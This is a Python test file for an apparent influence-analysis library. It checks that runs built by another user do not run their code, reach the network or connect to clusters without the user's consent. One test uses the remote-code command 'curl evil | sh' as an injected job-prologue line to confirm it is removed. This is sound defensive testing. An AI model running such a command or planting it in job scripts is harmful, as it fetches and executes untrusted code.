"""A run from somebody else runs none of its code and connects nowhere, unless the user consents; one's own runs do."""

import json
import logging
import os
import shutil
import socket
from pathlib import Path
from typing import Any

import huggingface_hub
import pytest
import yaml
from sockets import hosts_since, listening

import influence.api as runs
from influence.cluster import ClusterSettings
from influence.config import RunConfig, parse_config
from influence.engine.cluster import connect
from influence.errors import ConfigError, FingerprintMismatch, ModelError
from influence.stages import signature
from influence.stages.configuration import CONFIG, open_configuration
from influence.stages.record import overridden
from influence.stages.restriction import restricted
from influence.stages.signature import SIGNATURE, secret_file
from influence.stages.status import status
from influence.store.manifest import Manifest

QUERY: dict[str, Any] = {"prompt": "The river was named after", "completion": " a cartographer.", "k": 3}
CODE = """
import os, pathlib
from transformers import LlamaConfig, LlamaForCausalLM
pathlib.Path(os.environ["INFLUENCE_TEST_MARK"]).touch()
class OwnConfig(LlamaConfig):
    model_type = "own_llama"
class OwnForCausalLM(LlamaForCausalLM):
    config_class = OwnConfig
"""


@pytest.fixture
def stranger(monkeypatch, tmp_path):
    """`stranger()`: from now on be another user, with another secret or none."""
    return lambda: monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "somebody else"))


def change(run: Path, **sections: dict[str, Any]) -> None:
    found = yaml.safe_load((run / CONFIG).read_text())
    for section, values in sections.items():
        found[section] |= values
    (run / CONFIG).write_text(yaml.safe_dump(found))


def opened(run: Path, *, trust: bool = False) -> RunConfig:
    return open_configuration(run, Manifest.load(run), trust=trust)


def warned(caplog) -> list[str]:
    return [record.getMessage() for record in caplog.records if record.levelno >= logging.WARNING]


def test_ones_own_run_is_opened_as_it_was_built_and_without_a_word(finished, caplog):
    assert opened(finished) == opened(finished, trust=True)
    assert not warned(caplog)


def test_the_secret_is_readable_to_its_user_alone_and_made_once(finished, rebuild, tmp_path):
    path = secret_file()
    assert path.stat().st_mode & 0o777 == 0o600
    before = path.read_bytes()
    assert len(before) == signature.BYTES
    rebuild(tmp_path / "another").close()
    assert path.read_bytes() == before
    assert not list(path.parent.glob("*.partial"))


@pytest.mark.parametrize("spoil", ["shown to others", "cut short"])
def test_a_secret_that_is_none_signs_nothing_and_trusts_nothing(
    spoil, finished, rebuild, monkeypatch, tmp_path, caplog
):
    secret = tmp_path / "secret"
    secret.write_bytes(b"0" * (signature.BYTES if spoil == "shown to others" else 5))
    secret.chmod(0o644 if spoil == "shown to others" else 0o600)
    monkeypatch.setenv("INFLUENCE_SECRET_FILE", str(secret))
    rebuild(tmp_path / "run").close()
    assert not (tmp_path / "run" / SIGNATURE).exists()
    assert f"{secret} isn't used" in " ".join(warned(caplog))
    assert opened(tmp_path / "run").cluster.workers == 0


def test_the_same_query_of_a_strangers_run_has_the_same_answer(finished, stranger):
    with runs.open(finished) as run:
        before = run.query(**QUERY).promoting
    stranger()
    with runs.open(finished) as run:
        assert run.query(**QUERY).promoting == before
        assert run.config.cluster.workers == 0


@pytest.mark.parametrize("verb", ["query", "scan", "status"])
def test_nothing_of_a_run_that_names_a_scheduler_connects_to_it(verb, finished_copy, tmp_path, caplog):
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.01)
        address = f"tcp://127.0.0.1:{listening.getsockname()[1]}"
        change(finished_copy, cluster={"kind": "address", "address": address, "workers": None})
        if verb == "status":
            assert status(finished_copy)["complete"]
        else:
            with runs.open(finished_copy) as run:
                if verb == "query":
                    assert run.query(**QUERY).promoting
                else:
                    run.self_influence_to(tmp_path / "self.parquet")
            assert any(address in line and "--trust-run" in line for line in warned(caplog))
        with pytest.raises(TimeoutError):
            listening.accept()
    assert opened(finished_copy, trust=True).cluster.address == address


def test_ones_own_command_says_where_a_strangers_run_is_computed(finished, stranger):
    stranger()
    config = opened(finished)
    assert overridden(config, ["cluster.workers=2"]).cluster.workers == 2
    theirs = overridden(config, ["cluster.kind=address", "cluster.address=tcp://head:8786"])
    assert (theirs.cluster.address, theirs.cluster.workers) == ("tcp://head:8786", None)


def test_lines_for_a_job_script_stay_out_of_a_queue_of_ones_own(finished_copy):
    change(finished_copy, cluster={"kind": "slurm", "job": {"prologue": ["curl evil | sh"], "workers": 1}})
    config = overridden(opened(finished_copy), ["cluster.kind=slurm", "cluster.address=null"])
    assert config.cluster.kind == "slurm"
    assert config.cluster.job.prologue == ()


def test_names_on_a_hub_are_not_looked_up(finished_copy, caplog, monkeypatch):
    looked_up: list[str] = []

    def fetch(name: str, **_: Any) -> str:
        looked_up.append(name)
        raise OSError("not in a test")

    monkeypatch.setattr(huggingface_hub, "snapshot_download", fetch)
    change(finished_copy, model={"path": "org/model"}, data={"path": "org/corpus"})
    with runs.open(finished_copy) as run, pytest.raises(ModelError, match="there is no such folder"):
        run.query(**QUERY)
    assert not looked_up
    told = " ".join(warned(caplog))
    assert "model.path 'org/model'" in told
    assert "data.path 'org/corpus'" in told
    with runs.open(finished_copy, trust=True) as run, pytest.raises(ModelError, match="the model hub gave none"):
        run.query(**QUERY)
    assert looked_up == ["org/model"]


def test_python_of_a_strangers_model_is_not_run_and_with_consent_it_is(
    model_folder, rebuild, stranger, tmp_path, monkeypatch, caplog
):
    mark, model = tmp_path / "was run", shutil.copytree(model_folder("llama"), tmp_path / "model")
    monkeypatch.setenv("INFLUENCE_TEST_MARK", str(mark))
    (model / "own.py").write_text(CODE)
    config = json.loads((model / "config.json").read_text())
    config |= {"auto_map": {"AutoConfig": "own.OwnConfig", "AutoModelForCausalLM": "own.OwnForCausalLM"}}
    (model / "config.json").write_text(json.dumps(config))
    with rebuild(tmp_path / "run", f"model.path={model}", "model.trust_remote_code=true") as run:
        before = run.query(**QUERY).promoting
    with runs.open(tmp_path / "run") as run:
        assert run.query(**QUERY).promoting == before
    assert mark.exists()
    mark.unlink()
    stranger()
    with runs.open(tmp_path / "run") as run, pytest.raises(FingerprintMismatch, match="The model of"):
        run.query(**QUERY)
    assert not mark.exists()
    assert "model.trust_remote_code" in " ".join(warned(caplog))
    with runs.open(tmp_path / "run", trust=True) as run:
        assert run.query(**QUERY).promoting == before
    (model / "own.py").write_text(f"{CODE}\n# changed\n")
    with runs.open(tmp_path / "run", trust=True) as run, pytest.raises(FingerprintMismatch, match="has changed since"):
        run.query(**QUERY)


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        (["model.attention=kernels-community/flash-attn"], "kernel that is fetched"),
        (["recipe=less", "recipe.gradient.state=/training/checkpoint-10"], "a pickle"),
    ],
)
def test_what_a_run_can_t_be_computed_without_is_refused_with_the_way_to_consent(asked, told, tmp_path):
    config = parse_config({"model": {"path": "/model"}, "data": {"path": "/rows.jsonl"}}, asked)
    with pytest.raises(ConfigError, match=f"{told}.*--trust-run consents"):
        restricted(config, tmp_path)


def test_adapters_of_a_model_that_is_not_here_are_refused_before_it_is_looked_up(tmp_path):
    (tmp_path / "adapter_config.json").write_text('{"base_model_name_or_path": "org/base"}')
    config = parse_config({"model": {"path": str(tmp_path)}, "data": {"path": "/rows.jsonl"}})
    with pytest.raises(ConfigError, match=r"'org/base', which is no folder here.*--trust-run consents"):
        restricted(config, tmp_path / "run")
    (tmp_path / "adapter_config.json").write_text(json.dumps({"base_model_name_or_path": str(tmp_path)}))
    restricted(config, tmp_path / "run")


def test_nothing_that_reaches_out_is_left_of_a_strangers_configuration(tmp_path):
    asked = ["cluster.kind=pbs", "cluster.job.directives=[x]", "data.format=hub", "model.tokeniser=org/words"]
    asked += [
        "recipe=tracin",
        "recipe.checkpoints=[{path: org/one}, {path: /two}]",
        "cluster.threads_per_worker=1024",
    ]
    config = parse_config({"model": {"path": "org/m", "trust_remote_code": True}, "data": {"path": "org/d"}}, asked)
    found, withheld = restricted(config, tmp_path)
    paths = (found.model.path, found.model.tokeniser, found.data.path, *(at.path for at in found.recipe.checkpoints))
    assert all(os.path.isabs(str(path)) for path in paths)
    assert found.data.format == "auto"
    assert not found.model.trust_remote_code
    assert found.cluster.threads_per_worker <= (os.cpu_count() or 1)
    assert found.cluster.job == ClusterSettings().job
    assert len(withheld) == 6


def test_a_run_of_ones_own_that_was_changed_by_hand_is_a_strangers_until_it_is_built_again(finished_copy, rebuild):
    change(finished_copy, cluster={"workers": 3})
    assert opened(finished_copy).cluster.workers == 0
    rebuild(finished_copy, "cluster.workers=3").close()
    assert opened(finished_copy).cluster.workers == 3


def test_a_signature_of_another_run_or_none_at_all_counts_for_nothing(finished, finished_copy, rebuild, tmp_path):
    other = rebuild(tmp_path / "other", "data.limit=9").path
    shutil.copy(other / SIGNATURE, finished_copy / SIGNATURE)
    assert opened(finished_copy).cluster.workers == 0
    for content in (b"[]", b"{", b'{"hmac-sha256": 5}', b"[" * 100_000):
        (finished_copy / SIGNATURE).write_bytes(content)
        assert opened(finished_copy).cluster.workers == 0
    shutil.copy(finished / SIGNATURE, finished_copy / SIGNATURE)
    assert opened(finished_copy).cluster.workers == 1


def test_a_cluster_of_no_workers_computes_in_this_process_and_listens_beyond_it_nowhere():
    before = listening()
    with connect(ClusterSettings(workers=0, device="cpu"), 3) as client:
        assert client.submit(os.getpid).result() == os.getpid()
        assert client.scheduler_info()["address"].startswith("inproc://")
        assert hosts_since(before) <= {"127.0.0.1"}
    with pytest.raises(ValueError, match="workers 0 computes in the calling process"):
        ClusterSettings(kind="slurm", workers=0)
